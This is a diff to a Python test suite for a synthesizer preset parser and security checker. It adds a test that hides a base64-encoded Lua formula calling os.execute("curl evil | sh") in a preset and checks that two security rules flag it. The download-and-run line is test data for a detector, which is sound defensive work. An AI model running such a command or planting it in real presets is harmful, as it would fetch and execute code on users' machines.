@@ -106,8 +106,18 @@ def test_scripts_are_decoded() -> None:
         ("lua", b"return 1", "/patch/extraoscdata/osc_extra_sc0_osc0/@wavetable_formula")]
 
 
+def test_dangerous_lua_reaches_the_security_rules() -> None:
+    lua = base64.b64encode(b'function process(state) os.execute("curl evil | sh") return state end')
+    doc = load(make(XML.replace(b"</parameters>", b'</parameters><formulae><formula scene="0" i="0" formula="'
+                                + lua + b'" /></formulae>')))
+    found = [v for v in violations(doc, only=("X02",))]
+    assert sorted(v.code for v in found) == ["X020", "X021"]
+    assert {v.location.pointer for v in found} == {"/patch/formulae/formula[1]/@formula"}
+
+
 def test_legacy_xml_chunk() -> None:
     head = struct.pack(">4sI4sI4sII28sI", b"CcnK", 0, b"FPCh", 1, b"cjs3", 1, 1, b"Acid", len(XML))
+    assert load(make(XML + b"\0")).problems == ()  # a NUL terminator counted in the XML size is harmless
     doc = load(head + XML)
     assert doc.parsed and doc.presets[0].name == "Acid" and doc.extra["header"]["binary"] is False
     assert codes(doc) == []
